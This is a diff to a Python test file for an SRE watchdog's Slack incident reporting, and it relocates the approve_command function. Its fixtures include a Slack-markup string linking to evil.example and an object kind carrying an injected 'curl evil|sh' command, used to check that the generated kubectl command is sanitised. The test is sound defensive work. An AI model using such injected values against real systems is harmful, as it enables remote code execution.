@@ -15,7 +15,6 @@ from watchdog.nouns import Diagnosis, Outcome
 from watchdog.observation.snapshot import ObjectRef
 from watchdog.report.slack_incidents import (
     Story,
-    approve_command,
     ask,
     change,
     changes,
@@ -23,6 +22,7 @@ from watchdog.report.slack_incidents import (
     reminder,
 )
 from watchdog.report.slack_kit import Message
+from watchdog.report.todo import approve_command
 from watchdog.report.words import chapters
 
 HOSTILE = "<!channel> <@U123> & <https://evil.example|click> *b* ~s~ `c` ``` _i_ :smile:"
@@ -106,7 +106,7 @@ def test_a_remembered_kind_cannot_add_to_the_command() -> None:
     target = ObjectRef(kind="Deployment; curl evil|sh\n", namespace="shop", name="ledger")
     asked = request(action=ACTION.model_copy(update={"target": target}))
 
-    assert approve_command(asked) == (
+    assert approve_command(asked.action.target, asked.id) == (
         "kubectl -n shop annotate deploymentcurlevilsh/ledger "
         "sre-watchdog/approve=abc123 --overwrite"
     )
